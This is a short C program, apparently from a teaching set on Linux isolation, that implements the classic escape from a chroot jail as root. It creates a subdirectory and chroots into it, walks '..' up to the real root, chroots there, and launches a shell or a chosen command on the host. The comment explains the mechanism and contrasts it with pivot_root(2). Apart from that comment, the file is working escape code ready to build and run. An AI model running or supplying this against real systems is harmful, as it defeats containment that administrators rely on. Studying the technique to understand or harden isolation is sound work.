/* chroot-escape - leave a chroot(2) jail from inside it, as root.
 *
 * Usage (inside a chroot, as root): chroot-escape [COMMAND [ARG...]]
 *
 * Why it works: chroot(2) moves the root directory but not the current
 * directory, and the kernel only stops ".." at the *current* root. So:
 *   1. mkdir a directory and chroot into it: the root is now below us,
 *      and our current directory is outside the new root;
 *   2. chdir("..") again and again: nothing stops us until the real "/";
 *   3. chroot(".") there: the root is the host's root again.
 * pivot_root(2) in a mount namespace, with the old root unmounted, leaves no
 * such path: mini-pivot-root shows the same program failing.
 *
 * It is built static, so it runs inside any root filesystem.
 * Read: chroot(2) (NOTES), pivot_root(2).
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	static char *shell[] = { "/bin/sh", NULL };
	char **command = argc > 1 ? argv + 1 : shell;

	/* The jail's root, to remove our directory from it once we are out. */
	int jail = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);

	if (jail < 0) {
		perror("chroot-escape: open .");
		return 1;
	}
	if (mkdir("chroot-escape.d", 0700) < 0 && errno != EEXIST) {
		perror("chroot-escape: mkdir chroot-escape.d");
		return 1;
	}
	if (chroot("chroot-escape.d") < 0) {
		perror("chroot-escape: chroot chroot-escape.d");
		return 1;
	}
	/* Our current directory is now above our root: walk up from it. */
	for (int i = 0; i < 256; i++) {
		if (chdir("..") < 0) {
			perror("chroot-escape: chdir ..");
			return 1;
		}
	}
	if (chroot(".") < 0) {
		perror("chroot-escape: chroot .");
		return 1;
	}
	if (unlinkat(jail, "chroot-escape.d", AT_REMOVEDIR) < 0)
		perror("chroot-escape: rmdir chroot-escape.d");
	close(jail);
	fprintf(stderr, "chroot-escape: out; running %s\n", command[0]);
	execvp(command[0], command);
	fprintf(stderr, "chroot-escape: exec %s: %s\n", command[0],
		strerror(errno));
	return errno == ENOENT ? 127 : 126;
}
